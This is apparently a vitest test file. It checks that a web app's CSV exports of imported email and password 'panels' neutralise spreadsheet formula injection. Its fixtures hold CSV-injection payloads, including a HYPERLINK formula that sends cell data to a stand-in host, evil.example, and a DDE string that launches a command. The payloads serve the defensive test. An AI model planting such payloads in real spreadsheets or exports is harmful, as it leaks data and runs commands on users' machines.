import { parse } from 'csv-parse/sync';
import { inArray } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_PANELS_COLUMNS, DASHBOARD_PANELS_COLUMNS, encodeCsv } from '../../domain/csv';
import { adminPanelCsvRows } from '../../web/admin/panels/panel-csv-rows';
import type { ActivePanel } from '../../web/after-purchase/api/dashboard-api';
import { panelCsvRows } from '../../web/after-purchase/exports/csv-rows';
import { runExport } from '../../web/lib/run-export';
import { panels } from '../db/schema';
import { adminKitForSuite } from '../testing/admin-kit';
import { insertOrder } from '../testing/orders';

/**
 * A spreadsheet must never run a cell of ours as a formula (D12, docs/security.md), whoever
 * typed it: here the values come in through the inventory import, which keeps them exactly
 * as the supplier wrote them, and go out through every panel export there is.
 */

// What a hostile or careless supplier file can carry. E-mail addresses cannot start with
// `=` or `@` (the import checks them), but `-` and `+` are valid first characters; a
// password may be anything printable.
const HOSTILE = [
  { email: '-2+3+cmd@formula.example', password: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' },
  { email: '+sum@formula.example', password: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { email: 'plain@formula.example', password: '+1-1' },
  { email: 'dash@formula.example', password: '-=1+1' },
];

const FORMULA_START = /^[=+\-@\t\r]/;
/** What a neutralised cell reads as: the value with a single quote in front when needed. */
const neutral = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);

const kit = adminKitForSuite();
let ids: number[];

const readCsv = (text: string): string[][] => parse(text);

beforeAll(async () => {
  // The supplier's file: plain RFC 4180 fields, nothing neutralised.
  const raw = [
    'email,password',
    ...HOSTILE.map((p) => `${p.email},"${p.password.replaceAll('"', '""')}"`),
  ].join('\r\n');
  const res = await kit.admin.request({
    method: 'POST',
    url: '/api/admin/panels/import',
    headers: { 'content-type': 'text/csv' },
    payload: raw,
  });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.json()).toMatchObject({ accepted: HOSTILE.length, rejected: [] });
  const rows = await kit.db
    .select({ id: panels.id, email: panels.email })
    .from(panels)
    .where(
      inArray(
        panels.email,
        HOSTILE.map((p) => p.email),
      ),
    );
  ids = HOSTILE.map((p) => rows.find((r) => r.email === p.email)!.id);
});

describe('cells a spreadsheet would run as formulas', () => {
  it('are stored by the import exactly as given', async () => {
    const rows = await kit.db
      .select({ id: panels.id, email: panels.email, password: panels.password })
      .from(panels)
      .where(inArray(panels.id, ids));
    const stored = ids.map((id) => rows.find((r) => r.id === id)!);
    expect(stored.map((r) => r.email)).toEqual(HOSTILE.map((p) => p.email));
    expect(stored.map((r) => kit.cipher.decrypt(r.password))).toEqual(HOSTILE.map((p) => p.password));
  });

  it("are neutralised in the admin's streamed export of the whole inventory", async () => {
    const res = await kit.admin.get('/api/admin/panels/export?search=formula.example');
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...records] = readCsv(res.body);
    expect(header).toEqual([...ADMIN_PANELS_COLUMNS]);
    // Newest first: the reverse of the file's order.
    expect(records.map((r) => r.slice(0, 3))).toEqual(
      [...HOSTILE]
        .reverse()
        .map((p, i) => [String(ids[HOSTILE.length - 1 - i]), neutral(p.email), neutral(p.password)]),
    );
    for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it("are neutralised in the admin's selection export", async () => {
    const list = await kit.admin.get('/api/admin/panels?search=formula.example');
    const reveal = await kit.admin.post('/api/admin/panels/reveal', { ids, purpose: 'export' });
    expect(reveal.statusCode, reveal.body).toBe(200);
    const passwords = new Map<number, string>(
      reveal.json().passwords.map((p: { id: number; password: string }) => [p.id, p.password]),
    );
    const csv = encodeCsv(ADMIN_PANELS_COLUMNS, adminPanelCsvRows(list.json().items, passwords));
    const records = readCsv(csv).slice(1);
    expect(records.map((r) => r.slice(1, 3)).sort()).toEqual(
      HOSTILE.map((p) => [neutral(p.email), neutral(p.password)]).sort(),
    );
    for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it("are neutralised in the customer's dashboard export once the panels are theirs", async () => {
    // Sold as every panel is, through an order: it is the order's workspace that lists them.
    const order = await insertOrder(kit.db, { userId: kit.customerUser.id, status: 'completed' });
    await kit.db
      .update(panels)
      .set({ status: 'sold', soldTo: kit.customerUser.id, orderId: order.id, purchaseDate: new Date() })
      .where(inArray(panels.id, ids));
    const list = await kit.customer.get('/api/me/panels?search=formula.example');
    expect(list.statusCode, list.body).toBe(200);
    const selection: ActivePanel[] = list.json().panels;
    expect(selection).toHaveLength(HOSTILE.length);

    let file = '';
    const done = await runExport(
      {
        selection,
        nothingSelected: { title: '', description: '' },
        headers: DASHBOARD_PANELS_COLUMNS,
        // As the dashboard does it: the passwords come from the audit-logged reveal.
        rows: async (chosen) => {
          const res = await kit.customer.post('/api/me/panels/reveal', {
            ids: chosen.map((p) => p.id),
            purpose: 'export',
          });
          expect(res.statusCode, res.body).toBe(200);
          const passwords: { id: number; password: string }[] = res.json().passwords;
          return panelCsvRows(chosen, new Map(passwords.map((p) => [p.id, p.password])));
        },
        fileName: 'admin_panels_export.csv',
        successDescription: () => '',
      },
      { error: () => {}, success: () => {}, download: (_name, text) => (file = text) },
    );
    expect(done).toBe(true);
    const [header, ...records] = readCsv(file);
    expect(header).toEqual([...DASHBOARD_PANELS_COLUMNS]);
    expect(records.map((r) => r.slice(1, 3)).sort()).toEqual(
      HOSTILE.map((p) => [neutral(p.email), neutral(p.password)]).sort(),
    );
    for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);

    // Neutralising is the file's business: the app itself shows the values as they are.
    expect(selection.map((p) => p.email).sort()).toEqual(HOSTILE.map((p) => p.email).sort());
  });
});
